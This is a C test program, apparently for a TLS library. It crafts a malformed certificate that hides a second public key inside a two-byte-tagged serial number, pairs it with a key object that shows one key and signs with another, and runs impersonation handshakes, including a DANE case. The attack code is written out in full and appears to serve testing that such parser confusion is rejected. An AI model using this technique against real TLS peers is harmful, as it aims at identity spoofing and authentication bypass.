/* A certificate whose serial number has a tag of two bytes. A reader that takes every tag for one byte finds
 * another key in it, which lies in the number. Who holds that key only is not whom the certificate names: the
 * handshake fails, for a program that knows the peer by its key, and with DANE. */
#include "common.h"

#include <openssl/rsa.h>

struct bytes {
    unsigned char at[4096];
    size_t length;
};

static void append(struct bytes *to, const unsigned char *bytes, size_t length) {
    REQUIRE(to->length + length <= sizeof to->at);
    memcpy(to->at + to->length, bytes, length);
    to->length += length;
}

/* One element with this tag. */
static void element(struct bytes *to, const char *tag, size_t tag_length, const struct bytes *content) {
    const unsigned char length[] = {0x82, (unsigned char)(content->length >> 8),
                                    (unsigned char)content->length};
    append(to, (const unsigned char *)tag, tag_length);
    if (content->length < 128)
        append(to, length + 2, 1);
    else
        append(to, length, 3);
    append(to, content->at, content->length);
}

#define LITERAL(to, text) append(to, (const unsigned char *)(text), sizeof(text) - 1)

static const char algorithm[] = "\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x0b\x05";
static const char name[] = "\x30\x14\x31\x12\x30\x10\x06\x03\x55\x04\x03\x0c\x09localhost";
static const char validity[] = "\x30\x1e\x17\x0d"
                               "250101000000Z"
                               "\x17\x0d"
                               "350101000000Z";

/* The fields from the signature's algorithm to the key. */
static void fields(struct bytes *to, EVP_PKEY *key) {
    unsigned char *encoded = NULL;
    int length = i2d_PUBKEY(key, &encoded);
    REQUIRE(length > 0);
    append(to, (const unsigned char *)name, sizeof name - 1);
    append(to, (const unsigned char *)validity, sizeof validity - 1);
    append(to, (const unsigned char *)name, sizeof name - 1);
    append(to, encoded, (size_t)length);
    OPENSSL_free(encoded);
}

static X509 *crafted(EVP_PKEY *shown, EVP_PKEY *hidden) {
    struct bytes serial = {.length = 0}, inside = serial, body = serial, signature = serial, all = serial;
    LITERAL(&serial, "\x01\x05");
    fields(&serial, hidden);
    LITERAL(&serial, "\x01");
    element(&inside, "\x1f\x02", 2, &serial);
    append(&inside, (const unsigned char *)algorithm, sizeof algorithm);
    fields(&inside, shown);
    element(&body, "\x30", 1, &inside);
    append(&body, (const unsigned char *)algorithm, sizeof algorithm);
    for (int i = 0; i < 257; i++)
        LITERAL(&signature, "\x5a");
    signature.at[0] = 0;
    element(&body, "\x03", 1, &signature);
    element(&all, "\x30", 1, &body);
    const unsigned char *at = all.at;
    X509 *certificate = d2i_X509(NULL, &at, (long)all.length);
    REQUIRE(certificate != NULL && EVP_PKEY_eq(X509_get0_pubkey(certificate), shown) == 1);
    return certificate;
}

static RSA *own;

static int sign_with_own(int length, const unsigned char *from, unsigned char *to, RSA *rsa, int padding) {
    (void)rsa;
    return RSA_private_encrypt(length, from, to, own, padding);
}

/* A key that looks like `shown` and signs with `held`. */
static EVP_PKEY *pretended(EVP_PKEY *shown, EVP_PKEY *held) {
    static RSA_METHOD *method;
    const BIGNUM *n, *e;
    RSA *rsa = RSA_new();
    EVP_PKEY *key = EVP_PKEY_new();
    own = EVP_PKEY_get1_RSA(held);
    if (method == NULL) {
        method = RSA_meth_dup(RSA_PKCS1_OpenSSL());
        RSA_meth_set_priv_enc(method, sign_with_own);
    }
    RSA_get0_key(EVP_PKEY_get0_RSA(shown), &n, &e, NULL);
    REQUIRE(RSA_set0_key(rsa, BN_dup(n), BN_dup(e), NULL) == 1 && RSA_set_method(rsa, method) == 1);
    REQUIRE(EVP_PKEY_assign_RSA(key, rsa) == 1);
    return key;
}

static int accepts_all(int good, X509_STORE_CTX *store) {
    (void)good, (void)store;
    return 1;
}

enum how { SERVER, SERVER_DANE, CLIENT, CLIENT_LATER, WAYS };

static const char *const names[] = {"a server", "a server, DANE", "a client",
                                    "a client that is asked after the handshake"};

static void attack(int version, enum how how, EVP_PKEY *victim, EVP_PKEY *attacker) {
    SSL_CTX *client_ctx = client_context(version), *server_ctx = server_context(version);
    X509 *certificate = crafted(victim, attacker);
    EVP_PKEY *key = pretended(victim, attacker);
    SSL_CTX *of_attacker = how == CLIENT || how == CLIENT_LATER ? client_ctx : server_ctx;
    title("%s, %s", names[how], version_name(version));
    SSL_CTX_set_security_level(of_attacker, 0);
    REQUIRE(SSL_CTX_use_certificate(of_attacker, certificate) == 1);
    REQUIRE(SSL_CTX_use_PrivateKey(of_attacker, key) == 1);
    SSL_CTX_set_verify(client_ctx, SSL_VERIFY_PEER, how == SERVER_DANE ? NULL : accepts_all);
    if (how == CLIENT)
        SSL_CTX_set_verify(server_ctx, SSL_VERIFY_PEER, accepts_all);
    if (how == CLIENT_LATER) {
        SSL_CTX_set_post_handshake_auth(client_ctx, 1);
        SSL_CTX_set_verify(server_ctx, SSL_VERIFY_PEER | SSL_VERIFY_POST_HANDSHAKE, accepts_all);
    }
    if (how == SERVER_DANE)
        SSL_CTX_dane_enable(client_ctx);
    struct pair pair = new_pair(client_ctx, server_ctx);
    if (how == SERVER_DANE) {
        unsigned char *encoded = NULL, digest[32];
        int length = i2d_PUBKEY(victim, &encoded);
        REQUIRE(EVP_Digest(encoded, (size_t)length, digest, NULL, EVP_sha256(), NULL) == 1);
        OPENSSL_free(encoded);
        REQUIRE(SSL_dane_enable(pair.client, "localhost") == 1);
        REQUIRE(SSL_dane_tlsa_add(pair.client, 3, 1, 1, digest, sizeof digest) == 1);
    }
    /* What libcrypto says of a wrong signature is a matter of chance. */
    handshake_rounds(&pair, 10, 0);
    ERR_clear_error();
    if (how == CLIENT_LATER) {
        char buffer[10];
        printf("asked %d\n", SSL_verify_client_post_handshake(pair.server));
        SSL_do_handshake(pair.server);
        SSL_read(pair.client, buffer, sizeof buffer);
        printf("server reads %d\n", SSL_read(pair.server, buffer, sizeof buffer));
    }
    printf("done %d %d\n", SSL_is_init_finished(pair.client), SSL_is_init_finished(pair.server));
    printf("verified %ld %ld\n", SSL_get_verify_result(pair.client), SSL_get_verify_result(pair.server));
    ERR_clear_error();
    free_pair(&pair);
    X509_free(certificate);
    EVP_PKEY_free(key);
    RSA_free(own);
    SSL_CTX_free(client_ctx);
    SSL_CTX_free(server_ctx);
}

int main(void) {
    EVP_PKEY *victim = load_key("server.key"), *attacker = load_key("client.key");
    FOR_EACH_VERSION(version)
    for (int how = 0; how < WAYS; how++)
        if (how != CLIENT_LATER || version == TLS1_3_VERSION)
            attack(version, how, victim, attacker);
    EVP_PKEY_free(victim);
    EVP_PKEY_free(attacker);
    return 0;
}
